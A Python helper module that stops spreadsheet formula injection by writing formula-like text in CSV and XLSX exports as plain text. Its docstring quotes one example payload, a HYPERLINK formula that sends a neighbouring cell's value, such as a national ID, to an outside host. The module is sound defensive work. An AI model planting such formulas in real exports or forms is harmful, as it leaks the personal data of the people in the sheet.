"""Cells for spreadsheets we write (XLSX and CSV): a text that a spreadsheet program would read as a
formula is written so that it stays text.

A name such as ``=HYPERLINK("http://x/?"&B2, "Bấm")`` typed into a form would otherwise run when an
accountant opens the export, next to the national ID column (CSV/formula injection). Texts starting
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return are neutralised; numbers, dates and
booleans pass untouched (a negative number is a number, not a formula).
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cell(value: Any) -> Any:
    """A CSV value: None as empty, a formula-like text behind an apostrophe (shown as text by Excel,
    LibreOffice and Google Sheets)."""
    if value is None:
        return ""
    if is_formula_like(value):
        return "'" + str(value)
    return value


def xlsx_cell(sheet: Any, value: Any) -> Any:
    """An openpyxl cell for a write-only sheet: a formula-like text is a string cell (type ``s``),
    never a formula, and carries the quote prefix so editing it in Excel keeps it text."""
    if not is_formula_like(value):
        return value
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=value)
    cell.data_type = "s"
    cell.quotePrefix = True
    return cell
